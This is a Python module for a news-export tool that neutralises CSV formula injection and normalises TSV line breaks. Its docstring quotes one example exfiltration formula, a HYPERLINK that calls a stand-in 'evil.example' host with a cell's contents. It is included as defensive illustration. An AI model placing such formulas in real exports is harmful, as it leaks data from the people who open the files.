"""What a cell of a CSV or TSV export may hold: one function for every writer (CLI, dashboard, GDELT) (#16).

**Formulas.** A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and a leading
tab or carriage return can hide one), so a news title such as ``=HYPERLINK("https://evil.example/?d="&A2,"Click
me")`` would run on the computer of whoever opens the export. As OWASP recommends ("CSV Injection"), such a *text*
cell gets a leading single quote (``'=HYPERLINK(…)``), which spreadsheets show and never evaluate, and CSV writers
quote every text cell. Numbers are numbers, never text: a longitude of -3.7 or a score of -0.5 stays as it is.

**Rows.** CSV writers quote every text cell (``csv.QUOTE_NONNUMERIC``), so a line break of any kind inside a value
(a lone ``\\r`` included, which Python's writer leaves unquoted with a ``\\n`` line terminator) stays inside its cell.
A GDELT-style TSV has no quoting, so every character that any common reader takes as a line or field break (``\\t``,
``\\n``, ``\\r``, ``\\v``, ``\\f``, ``\\x1c``-``\\x1e``, U+0085, U+2028, U+2029) becomes a space: a file has one row per
event whatever the text holds.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from typing import IO, Any

#: Text that a spreadsheet would read as a formula starts with one of these (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_TSV_BREAKS = re.compile("[\t\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029]")


def neutralise(value: Any) -> Any:
    """``value`` safe for a spreadsheet cell: text that could start a formula gets a leading ``'``; anything else
    (numbers, dates, ``None``) is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_cell(value: Any) -> Any:
    """A CSV cell: empty for ``None``, ISO dates, ``true``/``false``, numbers as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, bool):
        return "true" if value else "false"
    return neutralise(value)


def csv_writer(out: IO[str]) -> Any:
    """A ``csv.writer`` that quotes every text cell (numbers stay bare), one row a ``\\n``-terminated line."""
    return csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)


def tsv_cell(value: Any) -> str:
    """A TSV cell: neutralised, with every line or field break inside it turned into a space."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    return _TSV_BREAKS.sub(" ", str(neutralise(value)))


__all__ = ["FORMULA_STARTS", "csv_cell", "csv_writer", "neutralise", "tsv_cell"]
